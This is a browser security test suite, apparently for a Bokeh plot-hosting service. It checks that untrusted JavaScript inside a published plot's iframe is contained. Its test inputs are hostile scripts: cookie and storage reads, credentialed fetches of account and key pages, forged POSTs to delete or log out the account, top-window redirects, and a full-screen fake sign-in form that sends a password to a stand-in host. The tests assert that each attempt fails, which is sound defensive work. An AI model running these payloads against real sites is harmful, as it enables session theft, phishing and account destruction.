"""A document may carry anybody's JavaScript: it gets nothing, and the page around it goes on working."""

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from bokeh.document import Document
from bokeh.models import CustomJS
from bokeh.plotting import figure
from playwright.sync_api import Browser, Frame, Page, expect

from tests.browser.chromium import Tab, wait_ready
from tests.browser.town import Town, browsing

#: Runs in the plot when it is drawn; what it finds is left where the test looks.
REPORT = """
  const tried = async (act) => {
    try { return String(await act()) } catch (error) { return `refused: ${error.name}` }
  };
  window.report = (async () => %s)();
"""

Open = Callable[[str], tuple[Page, Frame]]


@pytest.fixture
def tab(browser: Browser, town: Town) -> Iterator[Tab]:
    """A tab of the owner, who has most to lose."""
    with browsing(browser) as tab:
        town.sign_in(tab.page.context)
        yield tab


@pytest.fixture
def opened(tab: Tab, town: Town) -> Open:
    """Publish a plot with this script, and open its page."""

    def open_with(code: str) -> tuple[Page, Frame]:
        plot = figure(width=300, height=200, title="Hostile")
        plot.line([1, 2], [1, 2])
        document = Document(title="Hostile")
        document.add_root(plot)
        document.js_on_event("document_ready", CustomJS(code=code))
        published = town.server.publish(document, "hostile")
        tab.page.goto(published.url)
        element = tab.page.query_selector("iframe.plot-frame")
        assert element is not None
        frame = element.content_frame()
        assert frame is not None
        return tab.page, frame

    return open_with


#: Asks once as the browser would, and once with the token of the frame.
ASK = """
  const {token} = JSON.parse(document.getElementById("note").textContent);
  const get = (path, how) => fetch(path, how).catch(() => new Response("", {status: 599}));
  const ask = async (path) => {
    const plain = await get(path, {credentials: "include"});
    const held = await get(path, {headers: {Authorization: `Bearer ${token}`}});
    return `${plain.status} ${held.status} ${/random walk|laptop/.test(await plain.text())}`;
  };
"""


def report(opened: Open, expression: str, before: str = "") -> tuple[Page, Any]:
    page, frame = opened(before + REPORT % expression)
    wait_ready(frame)
    frame.wait_for_function("window.report !== undefined")
    return page, frame.evaluate("window.report")


def usable(page: Page) -> None:
    page.get_by_role("button", name="Share").click()
    expect(page.get_by_role("dialog", name="Share this plot")).to_be_visible()
    page.keyboard.press("Escape")


def test_it_really_runs(opened: Open) -> None:
    _, found = report(opened, "tried(() => 1 + 1)")
    assert found == "2"


def test_cookies(opened: Open) -> None:
    page, found = report(opened, "tried(() => document.cookie || 'none')")
    assert page.context.cookies()
    assert found in {"none", "refused: SecurityError"}


def test_storage(opened: Open) -> None:
    acts = "localStorage.length", "sessionStorage.length", "indexedDB.open('x')", "caches.keys()"
    _, found = report(opened, f"Promise.all([{', '.join(f'tried(() => {act})' for act in acts)}])")
    assert found == ["refused: SecurityError"] * len(acts)


def test_the_page_around(opened: Open) -> None:
    acts = "parent.document.title", "top.document.forms.length", "parent.location.href", "frameElement.id"
    page, found = report(opened, f"Promise.all([{', '.join(f'tried(() => {act})' for act in acts)}])")
    assert all(answer.startswith("refused") for answer in found), found
    usable(page)


def test_what_else_the_account_has(opened: Open, town: Town) -> None:
    other = town.plots["walk"].id
    paths = (
        "/", "/plots", "/account/keys", "/ada/plots", "/ada/data", "/ada/keys", "/ada/account", "/whoami",
        f"/ada/plots/{other}/scene", f"/ada/plots/{other}", f"/plots/{other}/show",
        f"/plots/{other}/thumbnail.png",
    )  # fmt: skip
    ask = f"Promise.all({list(paths)!r}.map((path) => tried(() => ask(path))))"
    _, found = report(opened, ask, ASK)
    for path, answer in zip(paths, found, strict=True):
        plain, held, told = answer.split()
        assert told == "false", path
        assert plain in {"599", "401", "403", "404"} or path == "/", (path, answer)
        # Its own token says whose it is, and opens nothing but this plot.
        assert held in {"599", "401", "403", "404"} or path in {"/", "/whoami"}, (path, answer)


FORMS = ("/logout", "/account/delete", "/plots/selection", "/account/keys")

SEND = """
  const fields = {confirm: "ada", action: "delete", sure: "yes", name: "x", scopes: "account"};
  const send = async (path) => {
    const how = {method: "POST", body: new URLSearchParams(fields), credentials: "include", mode: "no-cors"};
    return (await fetch(path, how)).status;
  };
"""


def test_forms_of_the_account(opened: Open, town: Town) -> None:
    before = town.cloud.request("GET", "/ada/plots", town.key).json()
    ask = f"Promise.all({list(FORMS)!r}.map((path) => tried(() => send(path))))"
    page, _ = report(opened, ask, SEND)
    after = town.cloud.request("GET", "/ada/plots", town.key).json()
    assert {plot["id"] for plot in before["plots"]} <= {plot["id"] for plot in after["plots"]}
    page.goto(f"{town.url}/account/keys")
    expect(page.get_by_role("heading", level=1)).to_have_text("API keys")


def test_leading_the_window_away(opened: Open, town: Town) -> None:
    acts = (
        "top.location = 'https://example.invalid/'",
        "parent.location.replace('https://example.invalid/')",
        "top.history.back()",
        "Object.assign(document.body.appendChild(document.createElement('a')),"
        " {href: 'https://example.invalid/', target: '_top'}).click()",
    )
    page, _ = report(opened, f"Promise.all([{', '.join(f'tried(() => {act})' for act in acts)}])")
    page.wait_for_timeout(500)
    assert page.url.startswith(town.url)
    usable(page)


def test_pop_ups_and_alerts(opened: Open) -> None:
    acts = "window.open('https://example.invalid/')", "alert('pay')", "confirm('pay')", "prompt('password')"
    page, found = report(opened, f"Promise.all([{', '.join(f'tried(() => {act})' for act in acts)}])")
    assert found == ["null", "undefined", "false", "null"]
    assert len(page.context.pages) == 1
    usable(page)


def test_a_form_over_the_whole_screen(opened: Open) -> None:
    """It stays in its frame, and cannot be sent anywhere."""
    page, found = report(
        opened,
        """tried(async () => {
          const style = "position: fixed; inset: 0; z-index: 9999; background: #fff";
          document.body.innerHTML = `<form action="https://example.invalid/" style="${style}">`
            + '<input name="password"><button>Sign in</button></form>';
          const answers = [await tried(() => document.documentElement.requestFullscreen())];
          document.querySelector("form").submit();
          answers.push(await tried(() => fetch("https://example.invalid/?password=x")));
          new Image().src = "https://example.invalid/?password=x";
          return answers.join();
        })""",
    )
    assert found.count("refused") == 2
    bar = page.locator("header.bar").bounding_box()
    frame = page.locator("iframe.plot-frame").bounding_box()
    assert bar is not None
    assert frame is not None
    assert frame["y"] >= bar["y"] + bar["height"], "the frame covers our own bar"
    page.wait_for_timeout(300)
    assert page.frames[1].evaluate("location.href").endswith("/embed")
    usable(page)


ON_CLICK = """
  document.addEventListener("click", () => {
    window.report = document.documentElement.requestFullscreen().then(() => "full", (error) => error.name);
  });
"""


def test_nobody_is_led_to_fill_the_screen(opened: Open, town: Town) -> None:
    """What people click on may ask browsers for the whole screen; a frame with code may not."""
    page, frame = opened(ON_CLICK)
    wait_ready(frame)
    page.locator("iframe.plot-frame").click()
    frame.wait_for_function("window.report !== undefined")
    assert frame.evaluate("window.report") == "TypeError"
    assert page.evaluate("document.fullscreenElement") is None
    usable(page)
    for url, allowed in ((town.plots["sine"].embed_url, True), (page.frames[1].url, False)):
        page.goto(url)
        assert page.evaluate("document.fullscreenEnabled") is allowed, url


def test_a_loop_without_end(opened: Open, tab: Tab) -> None:
    """The frame has a process of its own, so that the page around it stays usable."""
    code = "setTimeout(() => { console.error('around we go'); for (;;); }, 200)"
    with tab.page.expect_console_message(lambda message: "around we go" in message.text):
        page, _ = opened(code)
    page.wait_for_timeout(1000)  # the loop is under way
    usable(page)
    page.get_by_role("button", name="Account of ada").click()
    expect(page.get_by_text("Signed in as ada")).to_be_visible()
    # Leaving is not tried: Playwright waits for every frame then, and this one never answers.
    assert page.evaluate("fetch('/plots').then((answer) => answer.status)") == 200


def test_messages_that_lie(opened: Open) -> None:
    """What the frame tells the page is checked: heights, addresses, pictures."""
    code = """
      const lies = [{type: "bokeh-cloud:height", height: 1e9}, {type: "bokeh-cloud:height", height: "<b>"},
        {type: "bokeh-cloud:view", view: "javascript:alert(1)"}, {type: "bokeh-cloud:view", view: {}},
        {type: "bokeh-cloud:picture", kind: "thumbnail", data: new ArrayBuffer(10)},
        {type: "bokeh-cloud:constructor"}, {type: "bokeh-cloud:__proto__"}, {type: null}, null, "x"];
      for (const lie of lies) parent.postMessage(lie, "*");
    """
    page, frame = opened(code)
    wait_ready(frame)
    page.wait_for_timeout(500)
    assert page.locator("iframe.plot-frame").bounding_box()["height"] < 2000  # type: ignore[index]  # it is there
    assert "javascript" not in page.url
    usable(page)
